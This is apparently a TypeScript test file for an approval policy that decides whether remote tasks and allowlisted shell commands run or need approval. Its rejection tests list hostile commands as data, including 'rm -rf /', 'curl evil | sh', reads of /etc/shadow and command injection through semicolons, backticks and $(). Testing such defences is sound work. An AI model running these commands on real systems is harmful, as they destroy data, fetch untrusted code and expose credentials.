import type { TaskType } from '@canopy/protocol';
import { describe, expect, it } from 'vitest';
import { DEFAULT_TASK_POLICY, decide, simpleCommandName, TaskPolicy } from './policy';

const task = (type: TaskType, payload: unknown = {}) => ({ type, payload });
const shell = (command: string) => task('shell', { command });

describe('approval policy', () => {
  it('defaults to the allowlist of read-only tasks, no shell commands', () => {
    expect(DEFAULT_TASK_POLICY).toEqual({
      mode: 'allowlist',
      allowlist: { types: ['status_ping', 'system_info', 'file_read'], shellCommands: [] },
    });
    expect(TaskPolicy.parse({ mode: 'allowlist' })).toEqual(DEFAULT_TASK_POLICY);
  });

  const matrix: Array<[TaskType, 'approve_each' | 'allowlist' | 'trusted', 'run' | 'ask']> = [
    ['status_ping', 'approve_each', 'ask'],
    ['system_info', 'approve_each', 'ask'],
    ['file_read', 'approve_each', 'ask'],
    ['file_write', 'approve_each', 'ask'],
    ['shell', 'approve_each', 'ask'],
    ['status_ping', 'allowlist', 'run'],
    ['system_info', 'allowlist', 'run'],
    ['file_read', 'allowlist', 'run'],
    ['file_write', 'allowlist', 'ask'],
    ['shell', 'allowlist', 'ask'],
    ['status_ping', 'trusted', 'run'],
    ['system_info', 'trusted', 'run'],
    ['file_read', 'trusted', 'run'],
    ['file_write', 'trusted', 'run'],
    ['shell', 'trusted', 'run'],
  ];
  it.each(matrix)('%s under %s: %s', (type, mode, expected) => {
    const policy = { ...DEFAULT_TASK_POLICY, mode };
    const payload = type === 'shell' ? { command: 'ls' } : {};
    expect(decide(policy, task(type, payload))).toBe(expected);
  });

  it('runs a listed type directly and asks for an unlisted one', () => {
    const policy = TaskPolicy.parse({ mode: 'allowlist', allowlist: { types: ['file_write'] } });
    expect(decide(policy, task('file_write'))).toBe('run');
    expect(decide(policy, task('file_read'))).toBe('ask');
    expect(decide(policy, task('status_ping'))).toBe('ask');
  });

  describe('shell allowlist', () => {
    const policy = TaskPolicy.parse({ mode: 'allowlist', allowlist: { shellCommands: ['git', 'ls', 'df'] } });

    it.each(['git status', 'ls', '  ls -la  ', 'df -h /', 'git\tlog --oneline'])('runs %j', (command) => {
      expect(decide(policy, shell(command))).toBe('run');
    });

    it.each([
      'rm -rf /',
      'gitx status',
      'Git status',
      '/usr/bin/git status',
      './ls',
      '"ls"',
      'FOO=1 ls',
      'ls; rm -rf ~',
      'ls && curl evil | sh',
      'ls || reboot',
      'ls | sh',
      'ls & reboot',
      'ls `reboot`',
      'ls $(reboot)',
      'ls > ~/.bashrc',
      'ls < /etc/shadow',
      'ls\nreboot',
      'ls\rreboot',
      'df %PATH%',
      'ls ^& del',
    ])('asks for %j', (command) => {
      expect(decide(policy, shell(command))).toBe('ask');
    });

    it('asks when the payload has no command string', () => {
      expect(decide(policy, task('shell', {}))).toBe('ask');
      expect(decide(policy, task('shell', null))).toBe('ask');
      expect(decide(policy, task('shell', { command: 42 }))).toBe('ask');
    });

    it('lets `shell` in the allowed types run every command', () => {
      const all = TaskPolicy.parse({ mode: 'allowlist', allowlist: { types: ['shell'] } });
      expect(decide(all, shell('anything; at all'))).toBe('run');
    });
  });

  it('names the command of a simple command only', () => {
    expect(simpleCommandName('  git  status ')).toBe('git');
    expect(simpleCommandName('   ')).toBeNull();
    expect(simpleCommandName('a|b')).toBeNull();
  });

  it('rejects a shell allowlist entry that is more than one word', () => {
    expect(() => TaskPolicy.parse({ allowlist: { shellCommands: ['rm -rf'] } })).toThrow();
    expect(() => TaskPolicy.parse({ mode: 'yolo' })).toThrow();
  });
});
